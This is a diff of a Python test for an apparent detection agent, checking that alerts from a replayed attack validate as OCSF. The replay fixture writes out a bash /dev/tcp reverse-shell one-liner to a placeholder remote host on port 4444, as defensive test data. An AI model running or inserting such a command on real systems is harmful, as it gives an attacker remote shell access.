@@ -22,7 +22,8 @@ from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema
 
 from agent.ocsf import OCSF_VERSION, to_ocsf
 from agent.sinks import AlertSink
-from tests.replay.test_detection_replay import REMOTE, Script, replay
+from tests.helpers.events import REMOTE
+from tests.replay.test_detection_replay import HOST_META, replay, script
 
 # The contract's example alert (shared/design/contracts.md), every field present.
 CONTRACT_ALERT: dict[str, Any] = {
@@ -123,13 +124,13 @@ def test_ocsf_mapping_of_the_contract_alert() -> None:
 
 def test_real_alerts_from_a_replay_validate(tmp_path: Path) -> None:
     """Alerts the detection pipeline really makes (a replayed bash /dev/tcp shell) validate as OCSF."""
-    s = Script()
+    s = script()
     s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
     s.spawn(200, 100, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=1)
     s.connect(200, REMOTE, 4444, t=1.01)
     for fd in (0, 1, 2):
         s.dup(200, fd, t=1.02 + fd / 1000, daddr=REMOTE, dport=4444)
-    s.write(tmp_path / "attack.cwrec")
+    s.write_recording(tmp_path / "attack.cwrec", HOST_META)
     alerts = replay(tmp_path / "attack.cwrec", tmp_path / "alerts.jsonl")
     assert alerts
     for alert in alerts:
